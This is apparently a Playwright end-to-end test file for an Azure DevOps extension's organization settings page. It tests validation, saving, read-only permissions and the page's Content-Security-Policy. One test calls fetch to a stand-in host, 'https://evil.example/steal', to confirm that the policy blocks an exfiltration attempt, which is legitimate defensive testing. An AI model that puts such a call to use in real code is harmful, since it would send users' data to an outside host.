import { mkdirSync } from "node:fs";
import path from "node:path";
import type { Frame } from "playwright-core";
import { SEED } from "../../emulator/model/seed";
import { ARTIFACTS, expectNoCspViolations, hubFrame, startHarness, type Harness } from "./support/harness";
import { expectAccessible } from "./support/axe";
import { WizardDriver } from "./support/wizard";

/**
 * Organization settings > Azure connections (dist/settings.html in the emulated host): an administrator enters the
 * sign-in app and the guided form's defaults; they are validated, saved to extension data (Default scope), read back,
 * and used by every project's hub. Without "Edit instance-level information" the page is read-only.
 */
const SETTINGS_DOCUMENT = (h: Harness) => h.model.state.devops.extensionData["Default/Current/settings"]?.["organization"];

async function openSettings(h: Harness): Promise<Frame> {
  await h.page.goto(`${h.emulator.hostUrl}?${new URLSearchParams({ hub: "/settings.html" })}`);
  const frame = await hubFrame(h.page);
  await frame.getByRole("heading", { name: "Azure connections" }).waitFor();
  // The page opens on "Connections across projects"; the settings are the next tab.
  await frame.getByRole("tab", { name: "Settings" }).click();
  await frame.getByRole("heading", { name: /^Settings/ }).waitFor({ timeout: 15_000 });
  return frame;
}

async function openProjectHub(h: Harness): Promise<Frame> {
  await h.page.goto(h.emulator.hostUrl);
  const frame = await hubFrame(h.page);
  await frame.getByRole("button", { name: "New service connection" }).waitFor();
  return frame;
}

const field = (frame: Frame, label: string | RegExp) => frame.getByRole("textbox", { name: label });

describe("organization settings page", () => {
  let h: Harness;

  beforeAll(async () => {
    mkdirSync(ARTIFACTS, { recursive: true });
    h = await startHarness({ configured: false });
  });
  afterAll(async () => {
    await h?.close();
  });

  it("opens under the organization with the sign-in guide while nothing is configured", async () => {
    const frame = await openSettings(h);
    await frame.getByText(`These settings apply to every project of ${SEED.devopsOrganization}`).waitFor();
    await frame.getByText(/only gates the page/).waitFor();
    await frame.getByTestId("sign-in-setup-guide").waitFor();
    await frame.getByRole("button", { name: "Save" }).waitFor();
    expect(await h.page.evaluate(() => window.__host.loadSucceeded)).toBe(true);
    await h.page.screenshot({ path: path.join(ARTIFACTS, "settings-empty.png"), fullPage: true });
    await expectAccessible(h.page, frame, "Organization settings");
  });

  it("refuses invalid values with a message next to each field, and saves nothing", async () => {
    const frame = await openSettings(h);
    await field(frame, /^Application \(client\) ID: Azure$/).fill("not-a-guid");
    await field(frame, /^Default directory \(tenant\) ID/).fill("contoso.onmicrosoft.com");
    await field(frame, /^App registration name template/).fill("{organization}-{team}");
    await frame.getByRole("button", { name: "Save" }).click();
    await frame.getByText("Nothing was saved. Fix the fields marked above, then save again.").waitFor();
    await frame.getByText(/The Application \(client\) ID is a GUID/).waitFor();
    await frame.getByText(/The Directory \(tenant\) ID is a GUID/).waitFor();
    await frame.getByText("Unknown placeholder {team}.", { exact: false }).waitFor();
    expect(SETTINGS_DOCUMENT(h)).toBeUndefined();
  });

  it("refuses a client secret pasted where the client ID belongs", async () => {
    const frame = await openSettings(h);
    await field(frame, /^Application \(client\) ID: Azure$/).fill("abc8Q~abcdefghijklmnopqrstuvwxyz0123456789");
    await frame.getByRole("button", { name: "Save" }).click();
    await frame.getByText(/This looks like a client secret/).waitFor();
    expect(SETTINGS_DOCUMENT(h)).toBeUndefined();
  });

  it("saves the settings, reads them back, and every project's hub uses them", async () => {
    const frame = await openSettings(h);
    await field(frame, /^Application \(client\) ID: Azure$/).fill(SEED.signInClientId.toUpperCase());
    await field(frame, /^Default directory \(tenant\) ID/).fill(SEED.tenantId);
    await field(frame, /^App registration name template/).fill("{project}-{scope}");
    const w = new WizardDriver(frame);
    await w.choose("Default role", "Contributor");
    await w.choose("Default secret lifetime", "90 days");
    // Granting all pipelines is not allowed unless an administrator turns it on: left as it opens.
    expect(await frame.getByRole("checkbox", { name: /Allow granting access to all pipelines/ }).isChecked()).toBe(false);
    await frame.getByRole("button", { name: "Save" }).click();
    await frame.getByText("Saved and read back.", { exact: false }).waitFor();
    // Read back as every page reads it: normalized (lower-case GUID), validated.
    expect(await field(frame, /^Application \(client\) ID: Azure$/).inputValue()).toBe(SEED.signInClientId);
    expect(SETTINGS_DOCUMENT(h)).toMatchObject({
      id: "organization",
      signInClientIds: { AzureCloud: SEED.signInClientId },
      defaultTenantId: SEED.tenantId,
      nameTemplate: "{project}-{scope}",
      defaultRole: { id: "b24988ac-6180-42a0-ab88-20f7382dd24c", roleName: "Contributor" },
      defaultSecretDays: 90,
      allowAllPipelines: false,
    });
    await h.page.screenshot({ path: path.join(ARTIFACTS, "settings-saved.png"), fullPage: true });

    const hub = await openProjectHub(h);
    expect(await hub.getByRole("heading", { name: "Set up sign-in first" }).count()).toBe(0);
    const summary = hub.getByTestId("settings-summary");
    await summary.getByText(SEED.signInClientId).waitFor();
    await summary.getByText("{project}-{scope}").waitFor();
    await summary.getByText(/^Contributor/).waitFor();
    await summary.getByText("90 days").waitFor();
    await summary.getByText(/Not allowed/).waitFor();
    // The sign-in app entered here is the one the hub signs in with.
    await hub.getByRole("button", { name: "New service connection" }).click();
    await hub.getByRole("button", { name: "Sign in to Microsoft Entra ID" }).click();
    await hub.getByTestId("signed-in").waitFor({ timeout: 20_000 });
  });

  it("is read-only for a user without the permission, and says why", async () => {
    h.model.state.devops.projectCollectionAdministrators = [];
    try {
      const frame = await openSettings(h);
      await frame.getByRole("heading", { name: "Settings (read-only)" }).waitFor();
      await frame.getByText(/You may not change these settings/).waitFor();
      await frame.getByTestId("settings-read-only").getByText(SEED.signInClientId).waitFor();
      expect(await frame.getByRole("button", { name: "Save" }).count()).toBe(0);
      expect(await frame.getByRole("textbox", { name: /^Application \(client\) ID: Azure$/ }).count()).toBe(0);
      await h.page.screenshot({ path: path.join(ARTIFACTS, "settings-read-only.png"), fullPage: true });
    } finally {
      delete h.model.state.devops.projectCollectionAdministrators;
    }
  });

  it("says plainly when Azure DevOps cannot answer the permission check, and still lets the person save", async () => {
    h.model.knobs.hasPermissions = "forbidden";
    try {
      const frame = await openSettings(h);
      await frame.getByText(/Azure DevOps did not say whether you may change these settings; you can still save\./).waitFor();
      expect(await frame.getByRole("heading", { name: "Settings (read-only)" }).count()).toBe(0);
      await field(frame, /^App registration name template/).fill("{project}-{scopeLevel}");
      await frame.getByRole("button", { name: "Save" }).click();
      await frame.getByText("Saved and read back.", { exact: false }).waitFor();
      expect(SETTINGS_DOCUMENT(h)).toMatchObject({ nameTemplate: "{project}-{scopeLevel}" });
    } finally {
      delete h.model.knobs.hasPermissions;
    }
  });

  it("checks the permission again when saving", async () => {
    const frame = await openSettings(h);
    const before = JSON.stringify(SETTINGS_DOCUMENT(h));
    h.model.state.devops.projectCollectionAdministrators = [];
    try {
      await field(frame, /^Default directory \(tenant\) ID/).fill("");
      await frame.getByRole("button", { name: "Save" }).click();
      await frame.getByText("You may not change these settings.").waitFor();
      expect(JSON.stringify(SETTINGS_DOCUMENT(h))).toBe(before);
    } finally {
      delete h.model.state.devops.projectCollectionAdministrators;
    }
  });

  it("would see a Content-Security-Policy violation: a connection to a host outside the policy is blocked and reported", async () => {
    const frame = await openSettings(h);
    const outcome = await frame.evaluate(() =>
      fetch("https://evil.example/steal").then(
        () => "sent",
        () => "blocked",
      ),
    );
    expect(outcome).toBe("blocked");
    await expect.poll(() => h.cspViolations.filter((v) => v.blockedUri.startsWith("https://evil.example")).length).toBe(1);
    const violation = h.cspViolations.find((v) => v.blockedUri.startsWith("https://evil.example"))!;
    expect(violation).toMatchObject({ directive: "connect-src", page: expect.stringMatching(/\/settings\.html$/) });
    // The browser stopped it before the network: nothing reached the test's block list either.
    expect(h.blocked).toEqual([]);
    h.cspViolations.splice(h.cspViolations.indexOf(violation), 1);
  });

  it("breaks no Content-Security-Policy rule and reaches no host outside the emulator and the real clouds", async () => {
    await expectNoCspViolations(h);
    expect(h.blocked).toEqual([]);
  });
});
